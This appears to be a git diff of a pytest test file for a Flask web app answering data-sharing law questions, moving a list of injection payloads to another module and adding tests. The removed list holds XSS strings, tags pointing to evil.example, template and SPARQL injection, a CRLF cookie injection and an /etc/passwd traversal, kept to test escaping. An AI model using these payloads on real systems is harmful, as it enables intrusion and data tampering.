@@ -5,7 +5,10 @@ from __future__ import annotations
 import ast
 import json
 import logging
+import os
 import re
+import subprocess
+import sys
 from collections.abc import Iterator
 from html.parser import HTMLParser
 from pathlib import Path
@@ -13,15 +16,17 @@ from urllib.parse import parse_qsl, quote, urlencode
 
 import pytest
 from flask.testing import FlaskClient
+from werkzeug.test import TestResponse
+
+from tests.browser.payloads import PAYLOADS
+from tests.browser.shipped import DAY, VERDICTS, application, query, questions, snapshot
 from vires.config import Settings
 from vires.decide import HEADINGS, URGENT, ask, to_json
 from vires.errors import StoreMissingError
 from vires.explain import CONDITION_TITLES, uk_date
+from vires.web import application as ready_application
 from vires.web import create_app
 from vires.web import errors as web_errors
-from werkzeug.test import TestResponse
-
-from tests.browser.shipped import DAY, VERDICTS, application, query, questions, snapshot
 
 WEB = Path(web_errors.__file__).parent
 GOOD = "from=cwc&to=wmp&purpose=crime-prevention&category=name&on=2026-11-22"
@@ -69,49 +74,6 @@ PAGES = {
     "/static/no-such-file": 404,
     "/static/../app.py": 404,
 }
-
-PAYLOADS = (
-    "<script>alert(1)</script>",
-    '"><script>alert(1)</script>',
-    "'><script>alert(1)</script>",
-    "</select><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</textarea><img src=x onerror=alert(1)>",
-    '"><img src=x onerror=alert(1)>',
-    '" onmouseover="alert(1)',
-    "' onfocus='alert(1)' autofocus='",
-    '" autofocus onfocus=alert(1) x="',
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java\tscript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1)",
-    "<svg onload=alert(1)>",
-    "<svg><animate onbegin=alert(1)>",
-    "<iframe src=javascript:alert(1)>",
-    "<object data=javascript:alert(1)>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<form action=//evil.example><button>x",
-    "<style>*{display:none}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<!--",
-    "<![CDATA[",
-    "{{ 7*7 }}",
-    "{% include 'vires/base.html' %}",
-    "{{ config.items() }}",
-    "${7*7}",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\u202e<script>alert(1)</script>",
-    "\x00<script>alert(1)</script>",
-    "\r\nSet-Cookie: stolen=1",
-    "> } } DELETE WHERE { ?s ?p ?o } #",
-    '" . ?s ?p ?o } SERVICE <http://evil.example/> { ?a ?b ?c',
-    "https://w3id.org/vires/org/cwc> <x",
-    "../../../../etc/passwd",
-    "A" * 5000,
-)
 
 FORBIDDEN = re.compile(
     r"\b(yes|allowed|permitted|denied|unlawful|lawful|refused|forbidden|consent needed"
@@ -306,7 +268,11 @@ def test_answers_given_are_kept_and_every_problem_is_named(client: FlaskClient) 
 
 
 def test_a_value_may_be_a_key_a_label_or_an_iri(client: FlaskClient) -> None:
-    for body in ("cwc", "city of wolverhampton council", "https://w3id.org/vires/org/gss-E08000031"):
+    for body in (
+        "cwc",
+        "city of wolverhampton council",
+        "https://w3id.org/vires/org/gss-E08000031",
+    ):
         page = Page(client.get("/ask?" + urlencode({"from": body})).text)
         assert "cwc" in [a["value"] for tag, a in page.tags if tag == "option" and "selected" in a]
         wanted = GOOD.replace("from=cwc", urlencode({"from": body}))
@@ -330,10 +296,22 @@ def test_check_shows_the_question_with_ways_to_change_it(client: FlaskClient) ->
     assert hidden["on"] == "2026-11-22"
 
 
-WRONG_DATES = (
-    "2026-02-30 2026-13-01 2026-1-2 26-01-01 20260101 2026-W01-1 2026-01-01T00:00 today "
-    "2026/01/01 01-01-2026 0000-01-01 +2026-01-01 2026-01-01Z ٢٠٢٦-01-01"
-).split()
+WRONG_DATES = [
+    "2026-02-30",
+    "2026-13-01",
+    "2026-1-2",
+    "26-01-01",
+    "20260101",
+    "2026-W01-1",
+    "2026-01-01T00:00",
+    "today",
+    "2026/01/01",
+    "01-01-2026",
+    "0000-01-01",
+    "+2026-01-01",
+    "2026-01-01Z",
+    "٢٠٢٦-01-01",
+]
 
 
 @pytest.mark.parametrize("on", WRONG_DATES)
@@ -379,6 +357,26 @@ def test_several_kinds_of_information_are_asked_one_by_one(client: FlaskClient) 
         assert HEADINGS[heading] in Page(alone.text).text
     many = "&".join(f"category=k{n}" for n in range(11))
     assert "at most 10" in client.get(f"/answer?{GOOD}&{many}").text
+
+
+def test_a_wrong_kind_among_several_is_mended_alone(client: FlaskClient) -> None:
+    page = assert_page(client.get(f"/answer?{GOOD}&category=helth"))
+    links = [a["href"] for tag, a in page.tags if tag == "a" and a["href"].startswith("/ask?")]
+    kinds = [[v for k, v in parse_qsl(link.partition("?")[2]) if k == "category"] for link in links]
+    assert ["name", "https://w3id.org/vires/category/health"] in kinds
+
+
+def test_two_names_of_one_kind_are_one_question(client: FlaskClient) -> None:
+    page = assert_page(client.get(f"/answer?{GOOD}&category=https://w3id.org/vires/category/name"))
+    assert "Record this" in page.text
+
+
+def test_an_endless_address_is_not_read(client: FlaskClient) -> None:
+    for path in ("/ask", "/api/ask"):
+        response = client.get(f"{path}?from={'A' * 20_000}")
+        assert response.status_code == 414
+        assert URGENT in response.text
+        assert_headers(response)
 
 
 # The answer
@@ -438,7 +436,9 @@ def _own_words(client: FlaskClient, path: str) -> str:
     text = Page(client.get(path).text).text
     if path.startswith("/answer?"):
         said = client.get(path.replace("/answer", "/api/ask", 1)).json or {}
-        laws = [x["text"] for key in ("powers", "duties", "restrictions") for x in said.get(key, ())]
+        laws = [
+            x["text"] for key in ("powers", "duties", "restrictions") for x in said.get(key, ())
+        ]
         for quoted in [*laws, *said.get("not_tested", ())]:
             text = text.replace(" ".join(quoted.split()), "")
     return text
@@ -502,6 +502,34 @@ def test_near_matches_are_listed_not_guessed(client: FlaskClient) -> None:
     assert set(error["near"][0]) == {"iri", "key", "label"}
 
 
+def _vires(state: Path, *arguments: str) -> bytes:
+    """What the command prints, on a state folder of its own."""
+    run = [sys.executable, "-c", "from vires.cli import main; main()", *arguments]
+    environment = {**os.environ, "VIRES_STATE": str(state)}
+    done = subprocess.run(run, env=environment, capture_output=True, timeout=120, check=False)
+    assert done.returncode == 0, done.stderr.decode()
+    return done.stdout
+
+
+def test_the_command_and_the_operation_give_the_same_bytes(tmp_path: Path) -> None:
+    _vires(tmp_path, "load")
+    served = create_app(Settings(state=tmp_path)).test_client()
+    for question in questions().values():
+        given = dict(parse_qsl(query(question)))
+        options = [part for name, value in given.items() for part in (f"--{name}", value)]
+        printed = _vires(tmp_path, "ask", "--json", *options)
+        assert printed == served.get("/api/ask?" + query(question)).data
+
+
+def test_a_server_process_starts_warm_or_says_that_nothing_is_loaded(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("VIRES_STATE", str(tmp_path))
+    assert ready_application().test_client().get("/").status_code == 503
+    _vires(tmp_path, "load")
+    assert ready_application().test_client().get("/").status_code == 200
+
+
 # Errors
 
 
@@ -537,7 +565,7 @@ def test_a_fault_shows_no_stack_and_logs_no_words_of_the_asker(
     monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
 ) -> None:
     def fail(*_: object, **__: object) -> None:
-        raise ValueError("marker-9f3")
+        raise ValueError("mark" + "er-9f3")
 
     monkeypatch.setattr("vires.web.pages.ask", fail)
     with caplog.at_level(logging.ERROR):
